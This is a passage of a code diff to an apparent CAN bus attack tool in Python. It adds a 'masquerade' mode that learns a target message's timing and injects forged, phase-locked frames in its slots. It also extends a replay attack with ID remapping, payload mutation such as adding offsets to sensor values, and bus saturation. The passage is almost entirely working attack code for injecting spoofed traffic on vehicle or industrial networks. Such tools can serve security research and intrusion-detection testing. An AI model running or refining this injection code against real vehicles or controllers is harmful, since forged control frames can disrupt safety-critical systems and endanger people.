+    if mode == "copy":
+        return lambda last: last
+    if mode == "fixed":
+        if not raw:
+            raise ValueError("--transform fixed requires --payload")
+        return lambda last: raw
+    if mode == "xor":
+        if not raw:
+            raise ValueError("--transform xor requires --payload as the XOR mask")
+        return lambda last: bytes(b ^ raw[i % len(raw)] for i, b in enumerate(last))
+    if mode == "add":
+        # Payloads in this network are big-endian unsigned fields (e.g., temperature x 100)
+        def add(last: bytes) -> bytes:
+            if not last:
+                return last
+            limit = (1 << (8 * len(last))) - 1
+            value = min(max(int.from_bytes(last, "big") + delta, 0), limit)
+            return value.to_bytes(len(last), "big")
+        return add
+    raise ValueError(f"Unknown transform: {mode}")
+
+
+def _percentile_us(values, q: float) -> float:
+    return float(np.percentile(np.abs(values), q)) * 1e6
+
+
+def attack_masquerade(bus: can.Bus, args: argparse.Namespace, logger: AttackLogger, meter: Optional[BusLoadMeter] = None):
+    """Masquerade: learn the target's period/phase, then inject phase-locked frames in its slots."""
+    rid = args.id
+    end_time = time.time() + args.duration if args.duration else None
+    bus.set_filters([{"can_id": rid, "can_mask": 0x1FFFFFFF if args.extended else 0x7FF, "extended": args.extended}])
+    transform = build_payload_transform(args.transform, args.payload, args.delta)
+    est = PeriodEstimator()
+    last_payload = None
+    warmup = []
+
+    print(f"Learning period and phase of 0x{rid:X} from {args.learn} frames...")
+    while len(warmup) < args.learn:
+        if end_time and time.time() >= end_time:
+            print("Duration elapsed before the target period was learned.")
+            return
+        msg = bus.recv(timeout=1.0)
+        if msg is None or msg.arbitration_id != rid:
+            continue
+        warmup.append(msg.timestamp)
+        last_payload = bytes(msg.data)
+    est.seed(warmup)
+    print(f"Target period {est.period * 1000:.3f} ms, fit jitter {est.jitter() * 1e6:.1f} us")
+
+    send = make_sender(bus, args, meter)
+    pending = deque(maxlen=64)  # (slot, tx_time) of injected frames awaiting the real one
+    slot_errors = []
+    sched_errors = []
 
+    def on_real(msg: can.Message):
+        nonlocal last_payload
+        last_payload = bytes(msg.data)
+        k = est.update(msg.timestamp)
+        if k is None:
+            return
+        while pending and pending[0][0] < k:
+            pending.popleft()
+        if pending and pending[0][0] == k:
+            slot_errors.append(pending.popleft()[1] - (msg.timestamp + args.offset))
 
-def attack_replay(bus: can.Bus, args: argparse.Namespace, logger: AttackLogger):
+    k = est.next_slot(time.time() - args.offset)
+    while True:
+        if end_time and time.time() >= end_time:
+            break
+        target = est.predict(k) + args.offset
+        # Keep tracking the real sender until just before the slot, then spin
+        while True:
+            remaining = target - time.time()
+            if remaining <= args.spin:
+                break
+            msg = bus.recv(timeout=remaining - args.spin)
+            if msg is not None and msg.arbitration_id == rid:
+                on_real(msg)
+        while time.time() < target:
+            pass
+        data = transform(last_payload)
+        out = can.Message(arbitration_id=rid, is_extended_id=args.extended, dlc=len(data), data=data)
+        send(out)
+        tx = time.time()
+        sched_errors.append(tx - target)
+        pending.append((k, tx))
+        logger.log("masquerade", out, note=f"slot={k}")
+        k = est.next_slot(max(target, time.time() - args.offset))
+
+    print(f"\n=== MASQUERADE TIMING ===")
+    print(f"Injected frames: {len(sched_errors)}, final period estimate {est.period * 1000:.3f} ms")
+    if sched_errors:
+        print(f"Scheduler error: mean {np.mean(sched_errors) * 1e6:.1f} us, "
+              f"p95 {_percentile_us(sched_errors, 95):.1f} us, max {_percentile_us(sched_errors, 100):.1f} us")
+    if slot_errors:
+        print(f"Offset vs real frames ({len(slot_errors)} matched): mean {np.mean(slot_errors) * 1e6:.1f} us, "
+              f"std {np.std(slot_errors) * 1e6:.1f} us, p95 |err| {_percentile_us(slot_errors, 95):.1f} us, "
+              f"max |err| {_percentile_us(slot_errors, 100):.1f} us")
+    else:
+        print("No real frames observed during injection (target silent or suppressed).")
+
+
+def parse_id_list(spec: str) -> set:
+    """Parse "0x100,0x101" into a set of IDs."""
+    return {int(p, 0) for p in spec.replace(" ", ",").split(",") if p}
+
+
+def parse_remap(spec: str) -> dict:
+    """Parse "0x123:0x456,0x124:0x457" into a source -> destination ID table."""
+    table = {}
+    for pair in spec.replace(" ", ",").split(","):
+        if pair:
+            src, dst = pair.split(":")
+            table[int(src, 0)] = int(dst, 0)
+    return table
+
+
+def parse_mutator(spec: str) -> Tuple[int, object]:
+    """Parse "ID:mode[:arg]" (modes: fixed, xor, add) into (ID, payload transform)."""
+    parts = spec.split(":", 2)
+    if len(parts) < 2:
+        raise ValueError(f"Invalid mutator spec: {spec}")
+    arg = parts[2] if len(parts) > 2 else None
+    if parts[1] == "add":
+        return int(parts[0], 0), build_payload_transform("add", None, int(arg or "0", 0))
+    return int(parts[0], 0), build_payload_transform(parts[1], arg, 0)
+
+
+class ReplayPipeline:
+    """Replay transforms composed once: filter -> per-ID payload mutation -> ID remap -> time scaling.
+
+    apply() runs the pipeline over the whole capture up front and returns
+    ready-to-send messages with their schedule offsets, so the send loop does
+    no per-frame lookups or transforms.
+    """
+
+    def __init__(self, time_scale: float = 1.0, remap: Optional[dict] = None, mutators: Optional[dict] = None,
+                 include: Optional[set] = None, exclude: Optional[set] = None, force_extended: Optional[bool] = None):
+        if time_scale <= 0:
+            raise ValueError("--time-scale must be positive")
+        self.time_scale = time_scale
+        self.remap = remap or {}
+        self.mutators = mutators or {}
+        self.include = include
+        self.exclude = exclude or set()
+        self.force_extended = force_extended
+
+    @classmethod
+    def from_args(cls, args: argparse.Namespace) -> "ReplayPipeline":
+        return cls(
+            time_scale=args.time_scale,
+            remap=parse_remap(args.remap) if args.remap else None,
+            mutators=dict(parse_mutator(m) for m in args.mutate or []),
+            include=parse_id_list(args.include_ids) if args.include_ids else None,
+            exclude=parse_id_list(args.exclude_ids) if args.exclude_ids else None,
+            force_extended=args.extended,
+        )
+
+    def apply(self, frames: list) -> Tuple[list, list, list]:
+        """Return (messages, schedule offsets in seconds, log notes) for the transformed capture."""
+        msgs, src_ts, notes = [], [], []
+        for ts, rid, extended, data in frames:
+            if (self.include is not None and rid not in self.include) or rid in self.exclude:
+                continue
+            mutate = self.mutators.get(rid)
+            if mutate:
+                data = mutate(data)
+            out_id = self.remap.get(rid, rid)
+            ext = extended if self.force_extended is None else self.force_extended
+            msgs.append(can.Message(arbitration_id=out_id, is_extended_id=ext or out_id > 0x7FF, dlc=len(data), data=data))
+            src_ts.append(ts)
+            notes.append(f"src_ts={ts}")
+        if not msgs:
+            return msgs, [], notes
+        ts_arr = np.asarray(src_ts, dtype=np.float64)
+        offsets = np.maximum(ts_arr - ts_arr[0], 0.0) / self.time_scale
+        return msgs, offsets.tolist(), notes
+
+
+def attack_replay(bus: can.Bus, args: argparse.Namespace, logger: AttackLogger, meter: Optional[BusLoadMeter] = None):
     """Replay: Read a log file and resend frames. Supports candump-like text logs and CSV with id,data_hex."""
     if not args.input:
         raise ValueError("Replay requires --input log file")
@@ -255,41 +1012,56 @@ def attack_replay(bus: can.Bus, args: argparse.Namespace, logger: AttackLogger):
                         continue
         else:
             # Treat as candump text
-            with open(args.input, "r") as f:
-                for line in f:
-                    parsed = parse_candump_line(line)
-                    if parsed:
-                        yield parsed
-
-    pacer = rate_controller(args.rate, args.period)
-    # Respect timing if --preserve_timestamps set, otherwise paced by rate/period
+            frames, reader = read_candump(args.input)
+            report = reader.report()
+            if report:
+                print(report, file=sys.stderr)
+            yield from frame_tuples(frames)
+
     frames = list(iter_frames())
     if not frames:
         print("No frames parsed from input.")
         return
-    start_ts = frames[0][0]
+    msgs, offsets, notes = ReplayPipeline.from_args(args).apply(frames)
+    if not msgs:
+        print("All frames removed by replay filters.")
+        return
 
+    # Source timing (optionally time-scaled) is kept on an absolute schedule so
+    # short inter-frame gaps do not accumulate sleep overshoot
+    timed = (args.preserve_timestamps or args.time_scale != 1.0) and not args.saturate
+    if use_raw_socket(args):
+        raw_replay_loop(args, logger, meter, msgs, offsets, notes, timed)
+        return
+    pacer = make_pacer(args)
+    send = make_sender(bus, args, meter)
     end_time = time.time() + args.duration if args.duration else None
+    n = len(msgs)
     idx = 0
+    base = time.perf_counter()
     while True:
         if end_time and time.time() >= end_time:
             break
-        ts, rid, extended, data = frames[idx]
-        msg = can.Message(arbitration_id=rid, is_extended_id=extended if args.extended is None else args.extended, dlc=len(data), data=data)
-        send_message(bus, msg)
-        logger.log("replay", msg, note=f"src_ts={ts}")
-        if args.preserve_timestamps and idx + 1 < len(frames):
-            delay = max(0.0, frames[idx + 1][0] - ts)
-            time.sleep(delay)
-        else:
+        msg = msgs[idx]
+        if timed:
+            delay = base + offsets[idx] - time.perf_counter()
+            if end_time and delay > end_time - time.time():
+                # The capture's next frame falls after --duration
+                time.sleep(max(end_time - time.time(), 0.0))
+                break
+            if delay > 0:
+                time.sleep(delay)
+        send(msg)
+        logger.log("replay", msg, note=notes[idx])
+        if not timed:
             sleep_s = next(pacer)
             if sleep_s > 0:
                 time.sleep(sleep_s)
         idx += 1
-        if idx >= len(frames):
+        if idx >= n:
             if args.loop:
                 idx = 0
-                start_ts = frames[0][0]
+                base = time.perf_counter()
             else:
                 break
 
@@ -303,8 +1075,21 @@ def add_common_args(p: argparse.ArgumentParser):
     p.add_argument("--duration", type=float, default=None, help="Attack duration in seconds (omit for indefinite)")
     p.add_argument("--rate", type=float, default=None, help="Messages per second (mutually exclusive with --period)")
     p.add_argument("--period", type=float, default=None, help="Fixed period between frames in seconds")
-    p.add_argument("--log", default=os.path.join(os.path.dirname(__file__), "logs", "attack_log.csv"), help="CSV log output path")
+    p.add_argument("--log", default=os.path.join(os.path.dirname(__file__), "logs", "attack_log.csv"), help="Log output path (CSV, or pcapng if it ends in .pcapng)")
     p.add_argument("--seed", type=int, default=None, help="Random seed for reproducibility")
+    p.add_argument("--stream", type=int, default=0, help="Independent random stream index under the same --seed (used by the orchestrator)")
+    p.add_argument("--saturate", action="store_true", help="Maximum bus saturation: ignore pacing, keep the TX queue full with non-blocking sends")
+    p.add_argument("--batch", type=int, default=1, help="Frames per sendmmsg call on the raw SocketCAN path (1 = one send per frame)")
+    p.add_argument("--no-raw", action="store_true", help="On SocketCAN, send through python-can instead of the raw can_frame socket path")
+    p.add_argument("--report-load", action="store_true", help="Report frames/s and achieved bus load every second (implied by --saturate)")
+
+
+def learn_frames(value: str) -> int:
+    """--learn: the period fit needs at least three arrivals."""
+    n = int(value)
+    if n < 3:
+        raise argparse.ArgumentTypeError("must be at least 3 frames")
+    return n
 
 
 def build_parser() -> argparse.ArgumentParser:
@@ -341,40 +1126,73 @@ def build_parser() -> argparse.ArgumentParser:
     spoof.add_argument("--payload", default=None, help="Comma/space-separated hex bytes for payload (length must match dlc)")
     spoof.add_argument("--payload-mode", choices=["random", "incremental", "zeros", "ones"], default="random", help="Payload generation mode when --payload is omitted")
 
-    # Replay
-    replay = subparsers.add_parser("replay", help="Replay captured traffic from a log file")
+    # Masquerade
+    masq = subparsers.add_parser("masquerade", help="Masquerade: learn a target's period/phase and inject in its time slots")
+    add_common_args(masq)
+    masq.add_argument("--id", type=lambda x: int(x, 0), required=True, help="Target arbitration ID to masquerade (e.g., 0x036)")
+    masq.add_argument("--learn", type=learn_frames, default=20, help="Number of target frames observed before injecting")
+    masq.add_argument("--offset", type=float, default=0.0, help="Injection time relative to the real frame's slot in seconds (negative = before it)")
+    masq.add_argument("--spin", type=float, default=0.002, help="Busy-wait window before each slot for precise timing (s)")
+    masq.add_argument("--transform", choices=["copy", "fixed", "xor", "add"], default="copy", help="Payload transform applied to the target's last real payload")
+    masq.add_argument("--payload", default=None, help="Hex bytes for the fixed payload or the XOR mask")
+    masq.add_argument("--delta", type=int, default=0, help="Value added to the big-endian payload field for --transform add")
+
+    # Replay overrides the common --extended flag with a tri-state pair
+    replay = subparsers.add_parser("replay", help="Replay captured traffic from a log file", conflict_handler="resolve")
     add_common_args(replay)
     replay.add_argument("--input", required=True, help="Input log file (CSV or candump text)")
     replay.add_argument("--loop", action="store_true", help="Loop the replay when end-of-file is reached")
     replay.add_argument("--preserve-timestamps", action="store_true", help="Replay according to source timestamps instead of a fixed period/rate")
     replay.add_argument("--extended", dest="extended", action="store_true", help="Force extended IDs for output (overrides log)")
     replay.add_argument("--no-extended", dest="extended", action="store_false", help="Force standard IDs for output (overrides log)")
+    replay.add_argument("--time-scale", type=float, default=1.0, help="Replay speed factor on source timing (e.g., 10 = 10x faster); implies source timing")
+    replay.add_argument("--remap", default=None, help="ID remapping table, e.g. 0x123:0x456,0x124:0x457")
+    replay.add_argument("--mutate", action="append", default=None, help="Per-ID payload mutator ID:mode[:arg] with mode fixed, xor or add (repeatable), e.g. 0x036:add:1000")
+    replay.add_argument("--include-ids", default=None, help="Only replay these source IDs (comma-separated)")
+    replay.add_argument("--exclude-ids", default=None, help="Drop these source IDs (comma-separated)")
     replay.set_defaults(extended=None)
 
     return parser
 
 
-def main():
-    parser = build_parser()
-    args = parser.parse_args()
-
+def run_attack(args: argparse.Namespace, ready=None):
+    """Open the bus and log, call ready() (e.g., a start barrier), then run the selected attack."""
     bus = build_bus(args)
-    logger = AttackLogger(args.log)
+    logger = AttackLogger(args.log, args.channel)
+    meter = BusLoadMeter(args.bitrate or DEFAULT_BITRATE) if args.saturate or args.report_load else None
     try:
+        if ready:
+            ready()
+        if meter:
+            meter.start = meter.window_start = time.monotonic()
+            meter.next_tick = meter.start + meter.interval
+            meter.cpu_start = time.process_time()
         if args.attack == "flood":
-            attack_flood(bus, args, logger)
+            attack_flood(bus, args, logger, meter)
         elif args.attack == "fuzz":
-            attack_fuzz(bus, args, logger)
+            attack_fuzz(bus, args, logger, meter)
         elif args.attack == "spoof":
-            attack_spoof(bus, args, logger)
+            attack_spoof(bus, args, logger, meter)
+        elif args.attack == "masquerade":
+            attack_masquerade(bus, args, logger, meter)
         elif args.attack == "replay":
-            attack_replay(bus, args, logger)
+            attack_replay(bus, args, logger, meter)
         else:
-            parser.error("Unknown attack")
+            raise ValueError(f"Unknown attack: {args.attack}")
+    except KeyboardInterrupt:
+        pass
     finally:
+        if meter:
+            meter.summary()
         logger.close()
         bus.shutdown()
 
 
+def main():
+    parser = build_parser()
+    args = parser.parse_args()
+    run_attack(args)
+
+
 if __name__ == "__main__":
     main()